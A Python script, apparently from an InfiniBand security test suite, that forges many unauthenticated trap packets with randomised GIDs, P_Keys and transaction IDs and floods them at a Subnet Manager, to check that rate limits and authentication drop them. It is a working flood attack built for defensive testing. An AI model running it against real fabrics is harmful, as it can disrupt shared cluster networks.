"""Trap flood against the SM (new threat, DESIGN section 8): many unauthenticated traps, fast.

Random accused GIDs, P_Keys and TransactionIDs, so no two traps look alike; the switches' punt meter
caps what reaches the SM, and the SM drops every one at the authentication check.
"""

from __future__ import annotations

import os

from ibsec import addressing
from ibsec.builder import Builder, gid_bytes

from .common import RawSocket, blast, checked, gid_text, parser, report, run
from .forging import forged_trap

DISTINCT_FRAMES = 64


def main(argv: list[str] | None = None) -> int:
    p = parser(__doc__.splitlines()[0])
    p.add_argument("--sm-gid", required=True, help="the SM's GID")
    args = checked(p.parse_args(argv))
    sock = RawSocket(args.iface)
    builder = Builder(sock.mac, gid_bytes(sock.gid))

    def random_gid() -> str:
        return addressing.make_gid(1, int.from_bytes(os.urandom(8), "big"))

    frames = [
        forged_trap(
            builder,
            gid_text(args.sm_gid),
            random_gid(),
            sock.gid,
            int.from_bytes(os.urandom(5), "big") & addressing.MF_MAX,
            int.from_bytes(os.urandom(2), "big"),
            int.from_bytes(os.urandom(8), "big"),
        )
        for _ in range(min(DISTINCT_FRAMES, args.count))
    ]
    summary = blast(sock, lambda i: frames[i % len(frames)], args)
    report({"attack": "trap_flood", "sm_gid": gid_text(args.sm_gid), **summary})
    sock.close()
    return 0


if __name__ == "__main__":
    run(main)
